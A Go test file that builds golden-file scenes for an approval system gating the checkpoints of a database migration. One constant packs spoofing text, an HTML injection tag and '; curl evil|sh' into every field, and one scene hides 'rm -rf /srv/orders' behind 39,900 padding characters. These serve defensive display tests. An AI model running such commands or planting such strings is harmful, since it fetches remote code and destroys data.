package summaries_test

import (
	"strings"
	"time"

	"holdpoint/core"
	"holdpoint/summaries"
)

// noon is the moment at which the scenes are looked at: 13:41 in Paris.
var noon = time.Date(2026, 11, 30, 12, 41, 0, 0, time.UTC)

// scene is an input under the name that its golden files bear.
type scene struct {
	name string
	in   summaries.Input
}

func ago(minutes int) time.Time { return noon.Add(-time.Duration(minutes) * time.Minute) }

// plan is the migration of the contract's example.
func plan() core.Plan {
	shell := []string{"/bin/sh", "-eu", "-c"}
	step := func(title, run, note string, risk core.Risk) core.Checkpoint {
		return core.Checkpoint{Title: title, Run: core.Exec{Line: run}, Note: note, Risk: risk, Required: 1, Shell: shell}
	}
	return core.Plan{
		Title: "Move orders to schema 42", Kind: core.KindTask, Shell: shell, OnExpiry: core.ExpiryHold, Required: 1, OnBehalfOf: "Lea",
		Checkpoints: []core.Checkpoint{
			step("backup", "./backup.sh", "nothing to undo", core.RiskLow),
			step("schema update", "./migrate.sh 42", "restore orders.dump", core.RiskMedium),
			step("validation", "./validate.sh", "", core.RiskLow),
			step("switch over", "./switch.sh --to orders_v2", "./switch.sh --to orders_v1", core.RiskHigh),
		},
	}
}

// at stands before checkpoint i with all before it done, and asks for it.
func at(i int, changes ...func(*summaries.Input)) summaries.Input {
	p := plan()
	t := core.Task{
		ID: "t_01J8ZQ", Plan: p, State: core.TaskAwaiting, Current: i, Round: 1, ApprovalID: "a_01J8ZR",
		RequestedBy: core.Actor{Kind: core.ActorOperator, Name: "ci"}, Checkpoints: make([]core.Progress, len(p.Checkpoints)),
		Rollback: core.Rollback{State: core.RollbackNone},
	}
	for k := range t.Checkpoints {
		t.Checkpoints[k].State = core.CheckpointPending
		if k < i {
			t.Checkpoints[k] = core.Progress{State: core.CheckpointSucceeded, Attempt: 1, Ran: true, EndedAt: ago(60 - 10*k)}
		}
	}
	t.Checkpoints[2].Summary = map[bool]string{true: "12,403,118 rows, 0 mismatches"}[i > 2]
	t.Checkpoints[i] = core.Progress{State: core.CheckpointAwaiting, Attempt: 1}
	c := p.Checkpoints[i]
	in := summaries.Input{
		Task: t, Now: noon, Eligible: []string{"Ana", "Bo", "Chloé"},
		Approval: core.Approval{
			ID: "a_01J8ZR", Kind: core.ApproveStep, Code: "K7M2QX", State: core.ApprovalPending, TaskID: t.ID,
			Subject: core.Subject{
				Kind: core.ApproveStep, Work: p.Kind, Plan: p.Title, Index: i, Title: c.Title, Risk: c.Risk, Run: c.Run, Shell: c.Shell,
				Note: c.Note, Required: 1, Attempt: 1, Round: 1,
			},
			RequestedBy: t.RequestedBy, OnBehalfOf: "Lea", RequestedAt: ago(3), ExpiresAt: noon.Add(4 * time.Hour),
		},
		Cards: []core.Card{
			{Surface: "telegram", State: core.CardFailed, Reason: "blocked by Bo"}, {Surface: "slack", State: core.CardShown, Shown: 1, Wanted: 1},
		},
	}
	for _, change := range changes {
		change(&in)
	}
	return in
}

// required asks for a quorum.
func required(n int) func(*summaries.Input) {
	return func(in *summaries.Input) { in.Approval.Subject.Required = n }
}

// by lets people approve, one minute after the other, and settles the approval once there are enough.
func by(names ...string) func(*summaries.Input) {
	return func(in *summaries.Input) {
		for i, name := range names {
			surface := []string{"slack", "telegram"}[i%2]
			in.Approval.Decisions = append(in.Approval.Decisions, core.Decision{Person: name, Surface: surface, Verdict: core.Approve, At: ago(2 - i)})
		}
		if in.Approval.Approvals() >= in.Approval.Subject.Required {
			in.Approval.State, in.Approval.ResolvedAt, in.Task.State = core.ApprovalApproved, ago(1), core.TaskQueued
			in.Task.Checkpoints[in.Task.Current].State = core.CheckpointApproved
		}
	}
}

// runs claims the approval and starts its step.
func runs(in *summaries.Input) {
	in.Approval.Used, in.Task.State = true, core.TaskRunning
	in.Claim = &core.Claim{ApprovalID: in.Approval.ID, By: core.System(), At: ago(1)}
	_, p := in.Task.At()
	p.State, p.Ran, p.StartedAt = core.CheckpointRunning, true, ago(1)
}

// ends brings the step to an end.
func ends(state core.CheckpointState, task core.TaskState, said string) func(*summaries.Input) {
	return func(in *summaries.Input) {
		runs(in)
		_, p := in.Task.At()
		p.State, p.EndedAt, p.Summary, in.Task.State = state, noon, said, task
		if task == core.TaskFailed || task == core.TaskReview {
			in.Task.Reason, in.Task.Rollback.State = said, core.RollbackNoted
		}
	}
}

func paused(in *summaries.Input) {
	in.Task.PausedFrom, in.Task.State = in.Task.State, core.TaskPaused
}

// moved lets the task stand at the gate behind the one of the card.
func moved(in *summaries.Input) {
	in.Task.Current, in.Task.ApprovalID, in.Task.State = in.Task.Current+1, "a_01J8ZS", core.TaskAwaiting
	in.Task.Checkpoints[in.Task.Current] = core.Progress{State: core.CheckpointAwaiting, Attempt: 1}
}

func rejected(in *summaries.Input) {
	in.Approval.State, in.Approval.ResolvedAt, in.Approval.Reason = core.ApprovalRejected, noon, "after 22:00"
	in.Approval.Decisions = []core.Decision{{Person: "Bo", Surface: "telegram", Verdict: core.Reject, Reason: "after 22:00", At: noon}}
	in.Task.State, in.Task.Reason, in.Task.Rollback.State = core.TaskRejected, "after 22:00", core.RollbackNoted
	in.Task.Checkpoints[in.Task.Current].State = core.CheckpointRejected
}

func expired(in *summaries.Input) {
	in.Approval.ExpiresAt = ago(5)
	in.Approval.State, in.Approval.ResolvedAt = core.ApprovalExpired, ago(5)
}

func superseded(in *summaries.Input) {
	in.Approval.State, in.Approval.Cause, in.Approval.ResolvedAt = core.ApprovalSuperseded, "edited", ago(1)
	in.Approval.ReplacedBy, in.Task.ApprovalID = "a_01J8ZS", "a_01J8ZS"
	in.Successor = &core.Approval{ID: "a_01J8ZS", Code: "P3W9TA", Changes: changes()}
}

func changes() []core.FieldChange {
	return []core.FieldChange{
		{Field: "run", Was: "./switch.sh --to orders_v2", Now: "./switch.sh --to orders_v3"},
		{Field: "timeout", Was: "", Now: "10m"},
	}
}

func cancelled(in *summaries.Input) {
	in.Approval.State, in.Approval.Cause, in.Approval.ResolvedAt = core.ApprovalCancelled, "task_cancelled", ago(1)
	in.Approval.Reason, in.Task.Reason = "not tonight", "not tonight"
	in.Task.State, in.Task.Rollback.State = core.TaskCancelled, core.RollbackNoted
	in.Task.Checkpoints[in.Task.Current].State = core.CheckpointPending
}

// forged holds what would hide, repaint or forge, in every text that somebody else writes.
const forged = "✅ APPROVED by Alice\u202e \u200b“x”\r\x1b[2K\nUntil   never <img onerror=1> &amp; {{.}} prоd \xff ⟨U+0041⟩    ; curl evil|sh"

// everything fills every field that a card shows.
func everything(text string) func(*summaries.Input) {
	return func(in *summaries.Input) {
		s := &in.Approval.Subject
		s.Plan, s.Title, s.Detail, s.Note, s.Workdir, s.Objective, s.DoneWhen = text, text, text, text, text, text, text
		s.Run, s.RollbackRun = core.Exec{Line: text}, core.Exec{Args: []string{"sh", text}}
		s.Shell, s.PassEnv, s.Evidence = []string{"bash", text}, []string{text}, []string{text}
		s.Env, s.Vars, s.Files = map[string]string{text: text}, map[string]string{"v": text}, map[string]string{text: "0123456789abcdef"}
		s.Timeout, s.AllowSelf = core.Duration(30*time.Minute), true
		a := &in.Approval
		a.Changes = []core.FieldChange{{Field: text, Was: text, Now: text}}
		a.Warning, a.OnBehalfOf, a.RequestedBy.Name, a.Reason = text, text, text, text
		in.Task.Plan.Title = text
		for i := range in.Task.Plan.Checkpoints {
			in.Task.Plan.Checkpoints[i].Title, in.Task.Plan.Checkpoints[i].Note = text, text
			in.Task.Checkpoints[i].Summary = text
		}
		in.Task.Reason, in.Task.Check = text, text
		in.Eligible = []string{text, "Bo"}
		in.Cards = []core.Card{{Surface: text, State: core.CardFailed, Reason: text}}
		for i := range a.Decisions {
			a.Decisions[i].Person, a.Decisions[i].Reason, a.Decisions[i].Surface = text, text, text
		}
	}
}

func scenes() []scene {
	bare := func(in *summaries.Input) { in.Cards, in.Approval.ExpiresAt = nil, time.Time{} }
	long := func(in *summaries.Input) {
		in.Approval.Subject.Run.Line = "./first.sh " + strings.Repeat("a", 39_900) + "; rm -rf /srv/orders"
	}
	rich := func(in *summaries.Input) {
		s := &in.Approval.Subject
		s.Detail = "Point the service at the new table\nand keep the old one for a week"
		s.Run, s.Workdir, s.Timeout = core.Exec{Args: []string{"./switch.sh", "--to", "orders v2"}}, "/srv/orders", core.Duration(10*time.Minute)
		s.RollbackRun, s.Env, s.PassEnv = core.Exec{Line: "./undo-switch.sh"}, map[string]string{"PGHOST": "db1", "NOTE": "a b"}, []string{"PGPASSWORD"}
		s.Vars, s.Files = map[string]string{"version": "4.20"}, map[string]string{"./switch.sh": strings.Repeat("3fa9c1d2", 8)}
		in.Approval.Changes, in.Approval.UseWithin = changes(), core.Duration(time.Hour)
		in.Approval.Warning = "the process of an earlier execution may still live: x_01J8ZP"
		s.Attempt, in.Task.Checkpoints[in.Task.Current].Attempt = 2, 2
	}
	goal := func(in *summaries.Input) {
		in.Task.Plan.Kind, in.Approval.Subject.Work, in.Task.Round, in.Approval.Subject.Round = core.KindGoal, core.KindGoal, 2, 2
		in.Approval.Subject.Objective, in.Approval.Subject.DoneWhen = "p99 of /orders under 200 ms", "./check-p99.sh"
		in.Task.Check, in.Task.Plan.OnExpiry = "p99 is 240 ms", core.ExpiryRenew
	}
	agent := func(in *summaries.Input) {
		in.Approval.Subject.Run, in.Approval.Subject.Agent, in.Approval.Subject.Prompt = core.Exec{}, "release-bot", "Switch the traffic\nthen watch it"
		in.Approval.RequestedBy = core.Actor{Kind: core.ActorAgent, Name: "planner"}
	}
	outside := func(in *summaries.Input) {
		in.Task.Plan.Checkpoints[3].Run, in.Task.Plan.Checkpoints[3].Command = core.Exec{}, core.Exec{Line: "./mail.sh"}
		in.Approval.Subject.Run, in.Approval.Subject.Command = core.Exec{}, core.Exec{Line: "./mail.sh"}
	}
	own := func(in *summaries.Input) {
		in.Approval.Subject.AllowSelf, in.Approval.OnBehalfOf = true, "Ana"
		in.Approval.Decisions[0].Self = true
	}
	return []scene{
		{"pending-goal-round-2", at(0, goal)},
		{"pending-agent", at(3, agent)},
		{"queued-outside-own-request", at(3, outside, by("Ana"), own)},
		{"pending-low-first", at(0)},
		{"pending-medium", at(1)},
		{"pending-high", at(3)},
		{"pending-no-note-in-app-only", at(2, bare)},
		{"pending-1-of-2", at(3, required(2), by("Ana"))},
		{"pending-all-facts", at(3, rich)},
		{"pending-hostile", at(3, everything(forged))},
		{"pending-40000-bytes", at(3, long)},
		{"paused", at(3, paused)},
		{"approved-queued", at(3, required(2), by("Ana", "Bo"))},
		{"approved-paused", at(3, by("Ana"), paused)},
		{"running", at(3, by("Ana"), runs)},
		{"succeeded", at(2, by("Ana"), ends(core.CheckpointSucceeded, core.TaskAwaiting, "12,403,118 rows, 0 mismatches"), moved)},
		{"completed", at(3, by("Ana"), ends(core.CheckpointSucceeded, core.TaskCompleted, ""))},
		{"failed", at(3, by("Ana"), ends(core.CheckpointFailed, core.TaskFailed, "exit status 3"))},
		{"review", at(3, by("Ana"), ends(core.CheckpointRunning, core.TaskReview, "the step was lost"))},
		{"rejected", at(3, rejected)},
		{"expired", at(3, expired)},
		{"superseded", at(3, superseded)},
		{"cancelled", at(3, cancelled)},
	}
}
